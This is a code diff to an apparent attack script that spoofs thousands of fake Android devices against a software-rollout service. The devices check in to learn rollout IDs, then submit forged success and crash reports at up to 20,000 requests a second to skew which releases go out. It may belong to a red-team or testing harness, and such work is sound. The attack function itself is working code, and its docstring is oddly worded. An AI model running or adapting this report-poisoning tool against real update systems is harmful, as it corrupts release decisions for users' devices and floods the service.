@@ -3,9 +3,9 @@ them say that it ran well, half that it crashed. A gate that believes them goes 
 
 The stranger knows addresses alone: which rollouts there are its devices are told when they check in. A caller that has them in another
 way may name them, and tasks whose shadows are spoken of."""
-import base64
 import struct
 
+import raw_device
 from evil_gateway import Reader, open_envelope, open_offers
 from raw_h2 import Closed, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, request, status_of
 
@@ -14,7 +14,8 @@ DEVICES = 10000      # in one attack
 BATCH = 100          # requests at once
 LEARN_MAX = 2000     # check-ins to find a rollout
 FIRST = 0xbad0_0000_0000_0000
-PROFILE = base64.urlsafe_b64encode(bytes([1, 0, 0]) + bytes(8) + bytes([1, 0])).decode().rstrip("=")
+RATE = 20000         # requests a second at most
+PROFILE = raw_device.profile(os="android")  # as most devices that a release is for
 SHADOW_MARK = 0x736861646f772323  # docs/PROTOCOL.md
 RAN_WELL, CRASHED, AGREED, DIFFERENT = (1, 2, 3), (1, 2, 22), (7,), (24,)
 
@@ -88,16 +89,21 @@ def reports_of(number, rollouts, shadows):
 
 def attack(target, stop, rollouts=(), shadows=(), devices=DEVICES):
     """`shadows`: (rollout, task id) whose shadows are spoken of too."""
-    found, sent, checkins = set(rollouts), 0, 0
-    wire = Requests(target)
+    found, sent, checkins, pace = set(rollouts), 0, 0, raw_device.Pace(RATE * target.share, stop)
+    try:
+        wire = Requests(target)
+    except OSError:
+        return {"devices": 0, "checkins": 0, "rollouts": 0, "answers": {"closed": 1}}
     try:
         while not stop.is_set() and (checkins < devices or sent < devices) and (found or checkins < LEARN_MAX):
+            pace.wait(BATCH)
             batch = range(checkins, checkins + BATCH)
             for body in wire.answers([wire.send("/v1/checkin", FIRST + number, [("walle-profile", PROFILE)]) for number in batch]):
                 found |= rollouts_in(body)
             checkins += BATCH
             said = [one for number in batch for one in reports_of(number, sorted(found), shadows)]
             for at in range(0, len(said), BATCH):
+                pace.wait(BATCH)
                 wire.answers([wire.send("/v1/report", device, body=body) for device, body in said[at:at + BATCH]])
             sent += BATCH if said else 0
     except (Closed, OSError, AssertionError):
